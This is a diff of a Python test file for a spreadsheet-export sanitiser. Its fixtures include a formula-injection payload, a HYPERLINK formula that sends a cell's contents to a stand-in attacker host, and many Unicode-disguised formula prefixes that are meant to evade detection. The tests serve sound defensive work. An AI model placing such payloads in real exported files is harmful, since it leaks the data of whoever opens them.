@@ -8,7 +8,7 @@ import pandas as pd
 import pyarrow as pa
 import pytest
 
-from mediaframe.reports import to_csv
+from mediaframe.reports import risky, safe_cell, to_csv
 from mediaframe.reports.cells import safe_frame
 
 BAD = '=HYPERLINK("http://evil.example/?"&A2,"click")'
@@ -57,3 +57,28 @@ def test_numbers_dates_booleans_and_durations_keep_their_dtypes():
         }
     )
     assert safe_frame(frame).dtypes.tolist() == frame.dtypes.tolist()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\uff1d1+1",  # full-width =
+        "\uff0b1+cmd",  # full-width +
+        "\uff0d1+cmd",  # full-width -
+        "\uff20SUM(A1)",  # full-width @
+        "\u22121+1",  # minus sign
+        "\ufeff=1+1",  # byte-order mark
+        "\u200b=1+1",  # zero-width space
+        "\u202e=1+1",  # right-to-left override
+        "\u2066=1+1",  # left-to-right isolate
+        " \u200b \ufe62cmd",  # small plus, behind spaces and a zero-width space
+    ],
+)
+def test_formula_characters_in_disguise_are_neutralised(text):
+    assert risky(text)
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["\u22123", "\uff0d3", "caf\u00e9", "\u00e9=1", "\u200bsunset"])
+def test_numbers_and_text_in_other_scripts_are_kept(text):
+    assert not risky(text)
